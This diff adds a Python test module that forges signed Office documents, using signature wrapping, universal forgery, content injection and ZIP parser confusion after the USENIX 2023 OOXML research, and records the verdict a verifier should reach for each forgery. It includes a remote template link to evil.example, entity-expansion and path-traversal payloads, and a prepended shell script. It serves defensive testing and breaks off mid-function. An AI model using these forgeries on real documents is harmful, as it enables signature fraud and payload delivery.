@@ -1,0 +1,939 @@
+"""Forgeries of signed Office packages, each a script that takes genuine files and yields the forged one.
+
+Sources: Rohlmann, Mladenov, Mainka, Hirschberger, Schwenk, "Every Signature is Broken: On the Insecurity of Microsoft
+Office's OOXML Signatures", USENIX Security 2023 (CIA, CMA, LWA, USF, MRA), and the tables of
+reference/ooxml-signatures, section 6; the rest after the rules of its section 5.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import io
+import re
+import struct
+import warnings
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from enum import StrEnum
+from pathlib import Path
+
+from app.ooxml.markup import ManifestReference, SignatureDraft, SignatureTerms
+from app.ooxml.xml import canonical, parse
+from tests.demo.pki import Credential
+from tests.office_signing import TIME, changed, contents, raw_signature, rebuilt, replacing, sign
+
+SIGNATURE = "_xmlsignatures/sig1.xml"
+ROOT_RELS = "_rels/.rels"
+MAIN = "word/document.xml"
+MAIN_RELS = "word/_rels/document.xml.rels"
+TYPES = "[Content_Types].xml"
+
+_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+_WORDML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
+_DSIG = "http://www.w3.org/2000/09/xmldsig#"
+_C14N = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
+_SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
+
+
+class Verdict(StrEnum):
+    """What the examiner must find."""
+
+    INVALID = "invalid"
+    PARTIAL = "partial"
+    REJECTED = "rejected"
+    UNSIGNED = "unsigned"
+    GENUINE = "genuine"
+
+
+@dataclass(frozen=True)
+class Victim:
+    """Genuine files that an attacker got hold of, all of one signer.
+
+    :ivar plain, signed: a .docx before and after signing; it has a style part, a picture and a hyperlink.
+    :ivar bare: a signed .docx without style part.
+    :ivar sheet: a signed .xlsx.
+    :ivar other: an unsigned .docx that says something else.
+    :ivar credential: of the signer; used for other things the victim once signed, never for the forgery.
+    :ivar stranger: of the attacker.
+    """
+
+    plain: Path
+    signed: Path
+    bare: Path
+    sheet: Path
+    other: Path
+    credential: Credential
+    stranger: Credential
+
+
+@dataclass(frozen=True)
+class Attack:
+    """A forgery, the verdict it must get, and a code that must be among the reasons."""
+
+    name: str
+    forge: Callable[[Victim, Path], Path]
+    verdict: Verdict
+    code: str
+
+
+ATTACKS: list[Attack] = []
+
+_Forge = Callable[[Victim, Path], Path]
+
+
+def attack(verdict: Verdict, code: str) -> Callable[[_Forge], _Forge]:
+    def register(forge: _Forge) -> _Forge:
+        ATTACKS.append(Attack(forge.__name__.strip("_"), forge, verdict, code))
+        return forge
+
+    return register
+
+
+def _edit(target: Path, victim: Victim, **edits: Callable[[bytes], bytes] | bytes | None) -> Path:
+    named = {"signature": SIGNATURE, "root_rels": ROOT_RELS, "main": MAIN, "main_rels": MAIN_RELS, "types": TYPES}
+    return changed(victim.signed, target / "forged.docx", {named.get(name, name): edit for name, edit in edits.items()})
+
+
+def _with_override(part: str, content_type: str) -> Callable[[bytes], bytes]:
+    return replacing("</Types>", f'<Override PartName="{part}" ContentType="{content_type}"/></Types>')
+
+
+def _with_relationship(identifier: str, kind: str, target: str, mode: str = "") -> Callable[[bytes], bytes]:
+    attributes = f'Id="{identifier}" Type="{kind}" Target="{target}"{mode}'
+    return replacing("</Relationships>", f"<Relationship {attributes}/></Relationships>")
+
+
+# What is signed is changed.
+
+
+@attack(Verdict.INVALID, "ooxml-part-changed")
+def text_changed(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, main=replacing("phê duyệt", "bãi bỏ"))
+
+
+@attack(Verdict.INVALID, "ooxml-relationships-changed")
+def hyperlink_target_changed(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, main_rels=replacing("https://phongdien.example/", "https://evil.example/"))
+
+
+@attack(Verdict.INVALID, "ooxml-relationships-changed")
+def relationship_removed(victim: Victim, folder: Path) -> Path:
+    return _edit(
+        folder,
+        victim,
+        main_rels=lambda content: re.sub(rb'<Relationship [^>]*/settings"[^>]*>(</Relationship>)?', b"", content),
+    )
+
+
+@attack(Verdict.INVALID, "ooxml-part-missing")
+def signed_part_removed(victim: Victim, folder: Path) -> Path:
+    return changed(victim.signed, folder / "forged.docx", {"word/fontTable.xml": None})
+
+
+@attack(Verdict.INVALID, "ooxml-part-changed")
+def signed_part_changed(victim: Victim, folder: Path) -> Path:
+    return changed(victim.signed, folder / "forged.docx", {"word/styles.xml": replacing("<w:sz ", "<w:vanish/><w:sz ")})
+
+
+@attack(Verdict.INVALID, "ooxml-content-type-changed")
+def content_type_of_main_part_changed(victim: Victim, folder: Path) -> Path:
+    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
+    forged = _edit(folder, victim, types=replacing(_WORDML + "document.main+xml", macro))
+    return forged.rename(folder / "forged.docm")
+
+
+@attack(Verdict.INVALID, "ooxml-content-type-changed")
+def content_type_in_other_case(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, types=replacing(_WORDML + "styles+xml", _WORDML + "Styles+xml"))
+
+
+# The certificate or the value is changed.
+
+
+def _certificate(credential: Credential) -> str:
+    return base64.b64encode(credential.certificate).decode()
+
+
+@attack(Verdict.INVALID, "ooxml-certificate-mismatch")
+def certificate_swapped(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=replacing(_certificate(victim.credential), _certificate(victim.stranger)))
+
+
+@attack(Verdict.INVALID, "ooxml-signature-value")
+def certificate_and_its_digest_swapped(victim: Victim, folder: Path) -> Path:
+    old, new = (
+        base64.b64encode(hashlib.sha256(credential.certificate).digest()).decode()
+        for credential in (victim.credential, victim.stranger)
+    )
+    return _edit(
+        folder,
+        victim,
+        signature=lambda content: content.replace(
+            _certificate(victim.credential).encode(), _certificate(victim.stranger).encode()
+        ).replace(old.encode(), new.encode()),
+    )
+
+
+@attack(Verdict.INVALID, "ooxml-properties-changed")
+def signing_time_changed(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=replacing("<xd:SigningTime>2026", "<xd:SigningTime>2025"))
+
+
+@attack(Verdict.INVALID, "ooxml-properties-changed")
+def comments_changed(victim: Victim, folder: Path) -> Path:
+    return _edit(
+        folder, victim, signature=replacing("<SignatureComments/>", "<SignatureComments>Đồng ý</SignatureComments>")
+    )
+
+
+@attack(Verdict.INVALID, "ooxml-signature-value")
+def value_empty(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=lambda content: re.sub(rb"(<SignatureValue>)[^<]*", rb"\1", content))
+
+
+@attack(Verdict.INVALID, "ooxml-signature-value")
+def signed_info_of_weaker_digest(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=replacing("xmldsig-more#rsa-sha256", "xmldsig-more#rsa-sha512"))
+
+
+# Content is added beside what is signed (CIA, CMA, added relationships).
+
+_PEOPLE = (
+    b'<?xml version="1.0"?><w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
+    b'<w15:person w15:author="x"/></w15:people>'
+)
+_PEOPLE_TYPE = _WORDML + "people+xml"
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def content_injected_by_linked_people_part(victim: Victim, folder: Path) -> Path:
+    kind = "http://schemas.microsoft.com/office/2011/relationships/people"
+    return changed(
+        victim.signed,
+        folder / "forged.docx",
+        {
+            "word/people.xml": _PEOPLE,
+            TYPES: _with_override("/word/people.xml", _PEOPLE_TYPE),
+            MAIN_RELS: _with_relationship("rIdPeople", kind, "people.xml"),
+        },
+    )
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def content_injected_by_orphan_people_part(victim: Victim, folder: Path) -> Path:
+    return changed(
+        victim.signed,
+        folder / "forged.docx",
+        {"word/people.xml": _PEOPLE, TYPES: _with_override("/word/people.xml", _PEOPLE_TYPE)},
+    )
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def content_injected_without_content_type(victim: Victim, folder: Path) -> Path:
+    return changed(victim.signed, folder / "forged.docx", {"word/people.unknown": _PEOPLE})
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def content_masked_by_style_part(victim: Victim, folder: Path) -> Path:
+    return changed(
+        victim.bare,
+        folder / "forged.docx",
+        {
+            "word/styles.xml": contents(victim.plain)["word/styles.xml"],
+            TYPES: _with_override("/word/styles.xml", _WORDML + "styles+xml"),
+            MAIN_RELS: _with_relationship("rIdStyles", _OFFICE + "styles", "styles.xml"),
+        },
+    )
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def content_masked_by_font(victim: Victim, folder: Path) -> Path:
+    rels = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+        b'Type="' + _OFFICE.encode() + b'font" Target="fonts/font1.odttf"/></Relationships>'
+    )
+    return changed(
+        victim.signed,
+        folder / "forged.docx",
+        {
+            "word/fonts/font1.odttf": b"\0" * 64,
+            "word/_rels/fontTable.xml.rels": rels,
+            TYPES: replacing(
+                "</Types>",
+                '<Default Extension="odttf" '
+                'ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/></Types>',
+            ),
+        },
+    )
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def attached_template_added(victim: Victim, folder: Path) -> Path:
+    link = _with_relationship(
+        "rIdTemplate", _OFFICE + "attachedTemplate", "https://evil.example/t.dotm", ' TargetMode="External"'
+    )
+    return _edit(folder, victim, main_rels=link)
+
+
+@attack(Verdict.PARTIAL, "ooxml-main-part")
+def second_main_document(victim: Victim, folder: Path) -> Path:
+    return changed(
+        victim.signed,
+        folder / "forged.docx",
+        {
+            "word/document2.xml": contents(victim.other)[MAIN],
+            TYPES: _with_override("/word/document2.xml", _WORDML + "document.main+xml"),
+            ROOT_RELS: _with_relationship("rIdSecond", _OFFICE + "officeDocument", "word/document2.xml"),
+        },
+    )
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def second_relationship_to_the_origin(victim: Victim, folder: Path) -> Path:
+    return changed(
+        victim.signed,
+        folder / "forged.docx",
+        {
+            "_xmlsignatures/_rels/origin.sigs.rels": _with_relationship("rIdX", _OFFICE + "aFChunk", "/evil.html"),
+            "evil.html": b"<p>Evil</p>",
+            TYPES: replacing("</Types>", '<Default Extension="html" ContentType="text/html"/></Types>'),
+        },
+    )
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def origin_with_content(victim: Victim, folder: Path) -> Path:
+    return changed(victim.signed, folder / "forged.docx", {"_xmlsignatures/origin.sigs": b"<w:evil/>"})
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def thumbnail_doubled(victim: Victim, folder: Path) -> Path:
+    """A second thumbnail would smuggle a part in among the metadata."""
+    kind = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
+    core = "application/vnd.openxmlformats-package.core-properties+xml"
+    return changed(
+        victim.signed,
+        folder / "forged.docx",
+        {
+            "docProps/evil.xml": b"<x/>",
+            TYPES: _with_override("/docProps/evil.xml", core),
+            ROOT_RELS: _with_relationship("rIdEvil", kind, "docProps/evil.xml"),
+        },
+    )
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def metadata_with_relationships(victim: Victim, folder: Path) -> Path:
+    rels = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+        b'Type="' + _OFFICE.encode() + b'image" Target="https://evil.example/" TargetMode="External"/></Relationships>'
+    )
+    return changed(victim.signed, folder / "forged.docx", {"docProps/_rels/core.xml.rels": rels})
+
+
+@attack(Verdict.PARTIAL, "ooxml-main-part")
+def sheet_shown_as_text(victim: Victim, folder: Path) -> Path:
+    forged = folder / "forged.docx"
+    forged.write_bytes(victim.sheet.read_bytes())
+    return forged
+
+
+# A genuine signature of something else is moved in.
+
+
+def _foreign_signature(victim: Victim, references: list[ManifestReference]) -> bytes:
+    """A signature part that the victim made for another container."""
+    draft = SignatureDraft(SignatureTerms("rsa-sha256", "sha256", victim.credential.certificate, (), TIME), references)
+    draft.set_value(raw_signature(victim.credential, draft.to_be_signed, "sha256"))
+    return draft.written()
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def legacy_wrapping(victim: Victim, folder: Path) -> Path:
+    """The streams of a signed .doc become parts of a .docx, so that all references of its manifest hold."""
+    stream, kind = b"the streams of the old document", "application/octet-stream"
+    reference = ManifestReference(f"/WordDocument.bin?ContentType={kind}", hashlib.sha256(stream).digest())
+    entries = contents(victim.signed) | {MAIN: contents(victim.other)[MAIN], "WordDocument.bin": stream}
+    entries[SIGNATURE] = _foreign_signature(victim, [reference])
+    entries[TYPES] = replacing("</Types>", f'<Default Extension="bin" ContentType="{kind}"/></Types>')(entries[TYPES])
+    return rebuilt(entries, folder / "forged.docx")
+
+
+def _forged_manifest(victim: Victim) -> tuple[dict[str, bytes], str]:
+    """The signed package with another text, and its package object with the digest put right."""
+    entries = contents(victim.signed)
+    old = base64.b64encode(hashlib.sha256(entries[MAIN]).digest()).decode()
+    entries[MAIN] = contents(victim.other)[MAIN]
+    new = base64.b64encode(hashlib.sha256(entries[MAIN]).digest()).decode()
+    markup = entries[SIGNATURE].decode()
+    package_object = markup[markup.index('<Object Id="idPackageObject">') :].partition("</Object>")[0] + "</Object>"
+    assert old in package_object
+    return entries, package_object.replace(old, new)
+
+
+def _universal(victim: Victim, folder: Path, signed_object: str, uri: str, more: str = "") -> Path:
+    """Value and key of any XML signature of the victim, over ``signed_object``, around a forged package object."""
+    entries, package_object = _forged_manifest(victim)
+    element = parse(f'<Signature xmlns="{_DSIG}">{signed_object}</Signature>'.encode(), "x")[0]
+    digest = base64.b64encode(hashlib.sha256(canonical(element)).digest()).decode()
+    info = (
+        f'<SignedInfo><CanonicalizationMethod Algorithm="{_C14N}"/><SignatureMethod '
+        f'Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><Reference URI="{uri}"><DigestMethod '
+        f'Algorithm="{_SHA256}"/><DigestValue>{digest}</DigestValue></Reference></SignedInfo>'
+    )
+    octets = canonical(parse(f'<Signature xmlns="{_DSIG}">{info}</Signature>'.encode(), "x")[0])
+    value = base64.b64encode(raw_signature(victim.credential, octets, "sha256")).decode()
+    entries[SIGNATURE] = (
+        f'<Signature xmlns="{_DSIG}" Id="idPackageSignature">{info}<SignatureValue>{value}</SignatureValue><KeyInfo>'
+        f"<X509Data><X509Certificate>{_certificate(victim.credential)}</X509Certificate></X509Data></KeyInfo>"
+        f"{signed_object}{package_object}{more}</Signature>"
+    ).encode()
+    return rebuilt(entries, folder / "forged.docx")
+
+
+@attack(Verdict.INVALID, "ooxml-package-not-signed")
+def universal_forgery(victim: Victim, folder: Path) -> Path:
+    return _universal(victim, folder, '<Object Id="idForeign"><x xmlns="urn:x">1</x></Object>', "#idForeign")
+
+
+@attack(Verdict.INVALID, "ooxml-package-not-signed")
+def universal_forgery_named_office_object(victim: Victim, folder: Path) -> Path:
+    foreign = '<Object Id="idOfficeObject"><x xmlns="urn:x">1</x></Object>'
+    return _universal(victim, folder, foreign, "#idOfficeObject")
+
+
+@attack(Verdict.INVALID, "ooxml-reference")
+def universal_forgery_outside_reference(victim: Victim, folder: Path) -> Path:
+    return _universal(victim, folder, '<Object Id="idForeign"><x xmlns="urn:x">1</x></Object>', "content.xml")
+
+
+@attack(Verdict.INVALID, "ooxml-package-not-signed")
+def universal_forgery_with_two_manifests(victim: Victim, folder: Path) -> Path:
+    """The signed object is a package object of another document."""
+    markup = contents(victim.sheet)[SIGNATURE].decode()
+    genuine = markup[markup.index('<Object Id="idPackageObject">') :].partition("</Object>")[0] + "</Object>"
+    genuine = genuine.replace("idPackageObject", "idPackageObject_1").replace("idSignatureTime", "idTime_1")
+    return _universal(victim, folder, genuine, "#idPackageObject_1")
+
+
+@attack(Verdict.INVALID, "ooxml-part-missing")
+def signature_of_another_document(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=contents(victim.sheet)[SIGNATURE])
+
+
+@attack(Verdict.INVALID, "ooxml-duplicate-id")
+def wrapped_object_with_the_same_id(victim: Victim, folder: Path) -> Path:
+    """The signed object moves aside, a forged one of the same Id takes its place."""
+    entries, package_object = _forged_manifest(victim)
+    markup = entries[SIGNATURE].decode()
+    start = markup.index('<Object Id="idPackageObject">')
+    genuine = markup[start:].partition("</Object>")[0] + "</Object>"
+    entries[SIGNATURE] = markup.replace(genuine, package_object + f"<Object>{genuine}</Object>").encode()
+    return rebuilt(entries, folder / "forged.docx")
+
+
+@attack(Verdict.INVALID, "ooxml-package-not-signed")
+def wrapped_object_with_another_id(victim: Victim, folder: Path) -> Path:
+    entries, package_object = _forged_manifest(victim)
+    forged = package_object.replace('"idPackageObject"', '"idPackageObject2"').replace("idSignatureTime", "idTime2")
+    entries[SIGNATURE] = entries[SIGNATURE].replace(b"</Signature>", forged.encode() + b"</Signature>")
+    return rebuilt(entries, folder / "forged.docx")
+
+
+@attack(Verdict.INVALID, "ooxml-object-not-signed")
+def unsigned_object_added(victim: Victim, folder: Path) -> Path:
+    return _edit(
+        folder,
+        victim,
+        signature=replacing("</Signature>", '<Object Id="idValidSigLnImg">aGVsbG8=</Object></Signature>'),
+    )
+
+
+@attack(Verdict.INVALID, "ooxml-signature-markup")
+def second_qualifying_properties(victim: Victim, folder: Path) -> Path:
+    def double(content: bytes) -> bytes:
+        start = content.index(b"<xd:QualifyingProperties")
+        end = content.index(b"</xd:QualifyingProperties>") + len(b"</xd:QualifyingProperties>")
+        copy = content[start:end].replace(b"idSignedProperties", b"idOther")
+        return content.replace(b"</Signature>", b"<Object>" + copy + b"</Object></Signature>")
+
+    return _edit(folder, victim, signature=double)
+
+
+# The signature's markup plays tricks.
+
+
+@attack(Verdict.INVALID, "ooxml-signature-unreadable")
+def empty_signature(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=b"")
+
+
+@attack(Verdict.UNSIGNED, "ooxml-signature-cut-off")
+def origin_relationship_removed(victim: Victim, folder: Path) -> Path:
+    return _edit(
+        folder,
+        victim,
+        root_rels=lambda content: re.sub(rb'<Relationship [^>]*origin.sigs"[^>]*>(</Relationship>)?', b"", content),
+    )
+
+
+@attack(Verdict.INVALID, "ooxml-signature-unreadable")
+def document_type_in_signature(victim: Victim, folder: Path) -> Path:
+    return _edit(
+        folder, victim, signature=replacing("<Signature ", '<!DOCTYPE Signature [<!ENTITY x "y">]><Signature ')
+    )
+
+
+@attack(Verdict.REJECTED, "opc-xml")
+def document_type_in_relationships(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, main_rels=replacing("<Relationships ", "<!DOCTYPE Relationships><Relationships "))
+
+
+@attack(Verdict.REJECTED, "opc-xml")
+def document_type_in_utf16(victim: Victim, folder: Path) -> Path:
+    def utf16(content: bytes) -> bytes:
+        text = content.decode().partition("?>")[2].strip()
+        declaration = '<?xml version="1.0" encoding="UTF-16"?>'
+        return (declaration + '<!DOCTYPE Relationships [<!ENTITY a "b">]>' + text).encode("utf-16")
+
+    return _edit(folder, victim, main_rels=utf16)
+
+
+@attack(Verdict.REJECTED, "opc-xml")
+def entities_that_explode(victim: Victim, folder: Path) -> Path:
+    entities = '<!ENTITY a0 "aaaaaaaaaa">' + "".join(
+        f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 12)
+    )
+    return _edit(folder, victim, types=replacing("<Types ", f"<!DOCTYPE Types [{entities}]><Types "))
+
+
+@attack(Verdict.INVALID, "ooxml-comment")
+def comment_in_digest(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=replacing("</DigestValue>", "<!-- x --></DigestValue>"))
+
+
+@attack(Verdict.INVALID, "ooxml-comment")
+def comment_in_signing_time(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=replacing("<xd:SigningTime>20", "<xd:SigningTime>20<!-- -->"))
+
+
+@attack(Verdict.INVALID, "ooxml-comment")
+def instruction_before_signature(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=replacing("<Signature ", "<?x y?><Signature "))
+
+
+@attack(Verdict.INVALID, "ooxml-duplicate-id")
+def duplicate_id(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=replacing('Id="idOfficeV1Details"', 'Id="idPackageObject"'))
+
+
+@attack(Verdict.INVALID, "ooxml-signature-markup")
+def xml_attribute(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=replacing("<SignedInfo>", '<SignedInfo xml:lang="vi">'))
+
+
+@attack(Verdict.INVALID, "ooxml-signature-markup")
+def signature_inside_signature(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, signature=replacing("<SetupID/>", "<SetupID/><Signature xmlns='" + _DSIG + "'/>"))
+
+
+@attack(Verdict.INVALID, "ooxml-transform")
+def xslt_in_reference(victim: Victim, folder: Path) -> Path:
+    plain = f'<Transform Algorithm="{_C14N}"/></Transforms><DigestMethod'
+    xslt = (
+        '<Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><x/></Transform></Transforms><DigestMethod'
+    )
+    return _edit(folder, victim, signature=replacing(plain, xslt))
+
+
+@attack(Verdict.INVALID, "ooxml-signature-algorithm")
+def mac_length_parameter(victim: Victim, folder: Path) -> Path:
+    return _edit(
+        folder,
+        victim,
+        signature=replacing('rsa-sha256"/>', 'rsa-sha256"><HMACOutputLength>1</HMACOutputLength></SignatureMethod>'),
+    )
+
+
+def _signed_with(victim: Victim, folder: Path, edit: Callable[[str], str]) -> Path:
+    """A document whose signer's program wrote an unusual manifest; digest and value are put right."""
+    entries = contents(victim.signed)
+    markup = entries[SIGNATURE].decode()
+    edited = edit(markup)
+    assert edited != markup
+    root = parse(edited.encode(), "x")
+    info = root[0]
+    for reference in info.iterfind(f"{{{_DSIG}}}Reference"):
+        target = root.find(f".//*[@Id='{reference.get('URI')[1:]}']")
+        reference[-1].text = base64.b64encode(hashlib.sha256(canonical(target)).digest()).decode()
+    root[1].text = base64.b64encode(raw_signature(victim.credential, canonical(info), "sha256")).decode()
+    from lxml import etree
+
+    entries[SIGNATURE] = etree.tostring(root)
+    return rebuilt(entries, folder / "forged.docx")
+
+
+@attack(Verdict.INVALID, "ooxml-transform")
+def manifest_with_unknown_transform(victim: Victim, folder: Path) -> Path:
+    """A verifier that skips what it does not know would digest the whole part."""
+    kind = f"/{MAIN}?ContentType={_WORDML}document.main+xml"
+    transform = '<Transforms><Transform Algorithm="urn:unknown"/></Transforms>'
+    return _signed_with(
+        victim,
+        folder,
+        lambda markup: markup.replace(f'<Reference URI="{kind}">', f'<Reference URI="{kind}">{transform}'),
+    )
+
+
+@attack(Verdict.INVALID, "ooxml-transform")
+def manifest_with_base64_transform(victim: Victim, folder: Path) -> Path:
+    kind = f"/{MAIN}?ContentType={_WORDML}document.main+xml"
+    transform = f'<Transforms><Transform Algorithm="{_DSIG}base64"/></Transforms>'
+    return _signed_with(
+        victim,
+        folder,
+        lambda markup: markup.replace(f'<Reference URI="{kind}">', f'<Reference URI="{kind}">{transform}'),
+    )
+
+
+@attack(Verdict.INVALID, "ooxml-reference")
+def manifest_names_a_part_twice(victim: Victim, folder: Path) -> Path:
+    def double(markup: str) -> str:
+        found = re.search(r'<Reference URI="/word/document.xml.*?</Reference>', markup)
+        assert found
+        return markup.replace(found[0], found[0] + found[0].replace("/word/", "/WORD/"))
+
+    return _signed_with(victim, folder, double)
+
+
+@attack(Verdict.PARTIAL, "ooxml-uncovered")
+def manifest_without_main_part(victim: Victim, folder: Path) -> Path:
+    return _signed_with(
+        victim, folder, lambda markup: re.sub(r'<Reference URI="/word/document.xml.*?</Reference>', "", markup)
+    )
+
+
+@attack(Verdict.INVALID, "ooxml-digest-algorithm")
+def manifest_with_md5(victim: Victim, folder: Path) -> Path:
+    return _signed_with(
+        victim,
+        folder,
+        lambda markup: re.sub(
+            r'(<Reference URI="/word/document.xml[^>]*><DigestMethod Algorithm=")[^"]*',
+            r"\1http://www.w3.org/2001/04/xmldsig-more#md5",
+            markup,
+        ),
+    )
+
+
+@attack(Verdict.INVALID, "ooxml-signature-type")
+def signature_declared_as_something_else(victim: Victim, folder: Path) -> Path:
+    return _edit(
+        folder,
+        victim,
+        types=replacing("application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml", "application/xml"),
+    )
+
+
+# Two programs would read the ZIP file differently.
+
+
+def _pairs(victim: Victim) -> list[tuple[str, bytes]]:
+    return list(contents(victim.signed).items())
+
+
+def _rebuilt_loudly(pairs: list[tuple[str, bytes]], folder: Path) -> Path:
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", UserWarning)
+        return rebuilt(pairs, folder / "forged.docx")
+
+
+@attack(Verdict.REJECTED, "zip-duplicate")
+def duplicate_entry(victim: Victim, folder: Path) -> Path:
+    return _rebuilt_loudly([*_pairs(victim), (MAIN, contents(victim.other)[MAIN])], folder)
+
+
+@attack(Verdict.REJECTED, "zip-duplicate")
+def duplicate_entry_in_other_case(victim: Victim, folder: Path) -> Path:
+    return _rebuilt_loudly([*_pairs(victim), ("word/Document.xml", contents(victim.other)[MAIN])], folder)
+
+
+@attack(Verdict.REJECTED, "opc-part-name")
+def duplicate_entry_percent_encoded(victim: Victim, folder: Path) -> Path:
+    return _rebuilt_loudly([*_pairs(victim), ("word/%64ocument.xml", contents(victim.other)[MAIN])], folder)
+
+
+@attack(Verdict.REJECTED, "zip-duplicate")
+def content_types_in_other_case(victim: Victim, folder: Path) -> Path:
+    return _rebuilt_loudly([*_pairs(victim), ("[content_types].xml", contents(victim.other)[TYPES])], folder)
+
+
+@attack(Verdict.REJECTED, "opc-content-types")
+def content_type_declared_twice(victim: Victim, folder: Path) -> Path:
+    return _edit(folder, victim, types=_with_override("/WORD/document.xml", _WORDML + "template.main+xml"))
+
+
+@attack(Verdict.REJECTED, "opc-part-name")
+def interleaved_pieces(victim: Victim, folder: Path) -> Path:
+    pieces = [(f"{MAIN}/[0].piece", b"<x>"), (f"{MAIN}/[1].last.piece", b"</x>")]
+    return _rebuilt_loudly([*_pairs(victim), *pieces], folder)
+
+
+@attack(Verdict.REJECTED, "opc-part-name")
+def part_below_a_part(victim: Victim, folder: Path) -> Path:
+    return _rebuilt_loudly([*_pairs(victim), (f"{MAIN}/evil.xml", b"<x/>")], folder)
+
+
+@attack(Verdict.REJECTED, "zip-name")
+def name_with_parent_folder(victim: Victim, folder: Path) -> Path:
+    return _rebuilt_loudly([*_pairs(victim), ("../../etc/x", b"x")], folder)
+
+
+@attack(Verdict.REJECTED, "zip-name")
+def name_with_backslash(victim: Victim, folder: Path) -> Path:
+    return _rebuilt_loudly([*_pairs(victim), ("word\\evil.xml", b"x")], folder)
+
+
+@attack(Verdict.REJECTED, "zip-name")
+def absolute_name(victim: Victim, folder: Path) -> Path:
+    return _rebuilt_loudly([*_pairs(victim), ("/word/evil.xml", b"x")], folder)
+
+
+def _joined(folder: Path, first: bytes, second: bytes) -> Path:
+    forged = folder / "forged.docx"
+    forged.write_bytes(first + second)
+    return forged
+
+
+@attack(Verdict.REJECTED, "zip-hidden-content")
+def other_document_prepended(victim: Victim, folder: Path) -> Path:
+    return _joined(folder, victim.other.read_bytes(), victim.signed.read_bytes())
+
+
+@attack(Verdict.REJECTED, "zip-hidden-content")
+def other_document_appended(victim: Victim, folder: Path) -> Path:
+    return _joined(folder, victim.signed.read_bytes(), victim.other.read_bytes())
+
+
+def _prepended(first: bytes, second: bytes) -> bytes:
+    """The second archive behind foreign bytes, all its offsets put right."""
+    shift = len(first)
+    data = bytearray(second)
+    end = data.rindex(b"PK\x05\x06")
+    count, size, offset = struct.unpack_from("<HLL", data, end + 10)
+    struct.pack_into("<L", data, end + 16, offset + shift)
+    position = offset
+    for _ in range(count):
+        lengths = struct.unpack_from("<3H", data, position + 28)
+        local = struct.unpack_from("<L", data, position + 42)[0]
+        struct.pack_into("<L", data, position + 42, local + shift)
+        position += 46 + sum(lengths)
+    assert position == offset + size
+    return first + bytes(data)
+
+
+@attack(Verdict.REJECTED, "zip-hidden-content")
+def other_document_prepended_with_offsets_put_right(victim: Victim, folder: Path) -> Path:
+    hidden = victim.other.read_bytes()
+    hidden = hidden[: hidden.rindex(b"PK\x05\x06")]
+    return _joined(folder, b"", _prepended(hidden, victim.signed.read_bytes()))
+
+
+@attack(Verdict.PARTIAL, "ooxml-stray-bytes")
+def program_prepended(victim: Victim, folder: Path) -> Path:
+    return _joined(folder, b"", _prepended(b"#!/bin/sh\nexit 0\n", victim.signed.read_bytes()))
+
+
+@attack(Verdict.PARTIAL, "ooxml-stray-bytes")
+def trailing_bytes(victim: Victim, folder: Path) -> Path:
+    return _joined(folder, victim.signed.read_bytes(), b"something behind the end")
+
+
+@attack(Verdict.PARTIAL, "ooxml-stray-bytes")
+def archive_comment(victim: Victim, folder: Path) -> Path:
+    data = victim.signed.read_bytes()
+    comment = b"a comment"
+    return _joined(folder, data[:-2] + struct.pack("<H", len(comment)), comment)
+
+
+def _patched(victim: Victim, folder: Path, name: str, patch: Callable[[bytearray, int, int], None]) -> Path:
+    """The signed file with bytes changed in the local and central header of an entry."""
+    data = bytearray(victim.signed.read_bytes())
+    with zipfile.ZipFile(victim.signed) as archive:
+        local = archive.getinfo(name).header_offset
+    position = struct.unpack_from("<L", data, data.rindex(b"PK\x05\x06") + 16)[0]
+    while True:
+        length, extra, comment = struct.unpack_from("<3H", data, position + 28)
+        if data[position + 46 : position + 46 + length] == name.encode():
+            break
+        position += 46 + length + extra + comment
+    patch(data, local, position)
+    forged = folder / "forged.docx"
+    forged.write_bytes(data)
+    return forged
+
+
+@attack(Verdict.REJECTED, "zip-headers-differ")
+def local_name_differs(victim: Victim, folder: Path) -> Path:
